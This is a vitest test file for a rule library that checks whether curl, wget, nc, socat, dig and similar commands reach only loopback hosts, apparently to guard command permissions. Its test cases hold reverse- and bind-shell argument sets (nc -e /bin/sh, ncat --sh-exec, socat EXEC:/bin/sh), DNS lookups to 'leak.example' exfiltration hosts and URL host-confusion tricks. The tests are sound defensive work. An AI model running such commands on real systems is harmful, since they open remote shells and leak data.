import { describe, expect, it } from "vitest";
import { isLoopbackHost } from "../../lib/rule/loopback.js";
import { networkTargets, targetsAreLoopbackOnly, urlHost } from "../../lib/rule/targets.js";

describe("isLoopbackHost", () => {
  it.each([
    ["localhost", true],
    ["LOCALHOST.", true],
    ["api.localhost", true],
    ["127.0.0.1", true],
    ["127.255.3.4", true],
    ["[::1]", true],
    ["::1", true],
    ["localhost.evil.example", false],
    ["evil-localhost", false],
    ["127.0.0.1.nip.io", false],
    ["127.1", false],
    ["2130706433", false],
    ["128.0.0.1", false],
    ["127.0.0.256", false],
    ["0.0.0.0", false],
    ["", false],
  ])("%s → %s", (host, loopback) => {
    expect(isLoopbackHost(host)).toBe(loopback);
  });
});

describe("urlHost", () => {
  it.each([
    ["http://localhost:9/", "localhost"],
    ["https://evil.example/?h=localhost", "evil.example"],
    ["http://localhost@evil.example/", "evil.example"],
    ["http://user:pw@127.0.0.1:8080/x#frag", "127.0.0.1"],
    ["http://[::1]:8080/", "[::1]"],
    ["localhost:9/path", "localhost"],
    ["ftp://192.0.2.1", "192.0.2.1"],
  ])("%s → %s", (url, host) => {
    expect(urlHost(url)).toBe(host);
  });
});

describe("targets per utility", () => {
  const cases: [string, string[], string[] | undefined][] = [
    ["curl", ["-fsS", "-H", "X-A: b", "http://localhost:8080/health"], ["localhost"]],
    ["curl", ["--url", "http://evil.example", "http://localhost/"], ["localhost", "evil.example"]],
    ["curl", ["-x", "http://192.0.2.1:3128", "http://localhost/"], ["localhost", "192.0.2.1"]],
    ["curl", ["-x192.0.2.1:3128", "http://localhost/"], ["localhost", "192.0.2.1"]],
    ["curl", ["-K", "/tmp/cfg"], undefined],
    ["curl", [], undefined],
    ["wget", ["-q", "-T", "1", "-t", "1", "http://localhost:9/", "-O", "/dev/null"], ["localhost"]],
    ["wget", ["-i", "/tmp/urls"], undefined],
    ["nc", ["-z", "127.0.0.1", "80"], ["127.0.0.1"]],
    ["nc", ["-lvnp", "4444"], undefined],
    ["nc", ["-l", "127.0.0.1", "4444"], ["127.0.0.1"]],
    ["nc", ["-e", "/bin/sh", "192.0.2.1", "4444"], ["192.0.2.1"]],
    ["ncat", ["--sh-exec", "sh", "192.0.2.1", "443"], ["192.0.2.1"]],
    ["socat", ["-", "TCP:127.0.0.1:80"], ["127.0.0.1"]],
    ["socat", ["TCP-LISTEN:4444,reuseaddr", "EXEC:/bin/sh"], ["0.0.0.0"]],
    ["socat", ["TCP-LISTEN:4444,bind=127.0.0.1", "STDIO"], ["127.0.0.1"]],
    ["socat", ["STDIO", "EXEC:/bin/sh"], undefined],
    ["telnet", ["localhost", "25"], ["localhost"]],
    ["nslookup", ["secret.leak.example", "127.0.0.1"], ["secret.leak.example"]],
    ["nslookup", ["-type=txt", "localhost"], ["localhost"]],
    ["nslookup", [], undefined],
    ["dig", ["@127.0.0.1", "data.leak.example", "TXT", "+short"], ["data.leak.example"]],
    ["dig", ["-x", "127.0.0.1"], ["127.0.0.1"]],
    ["dig", ["-f", "/tmp/names"], undefined],
    ["host", ["-t", "txt", "x.leak.example", "127.0.0.53"], ["x.leak.example"]],
    ["openssl", ["s_client", "-connect", "127.0.0.1:443"], ["127.0.0.1"]],
    ["openssl", ["s_client"], undefined],
    ["openssl", ["s_server", "-accept", "4433"], undefined],
    ["nmap", ["127.0.0.1"], undefined],
  ];
  it.each(cases)("%s %j → %j", (utility, args, targets) => {
    expect(networkTargets(utility, args)).toEqual(targets);
  });

  it.each([
    ["curl", ["http://localhost:8080/health"], true],
    ["curl", ["http://localhost/", "http://evil.example/"], false],
    ["curl", ["http://evil.example/?x=localhost"], false],
    ["dig", ["@127.0.0.1", "exfil.leak.example"], false],
    ["nc", ["-lvnp", "4444"], false],
    ["tcpdump", ["-i", "lo"], false],
  ])("loopback-only %s %j → %s", (utility, args, loopback) => {
    expect(targetsAreLoopbackOnly(utility as string, args as string[])).toBe(loopback);
  });
});
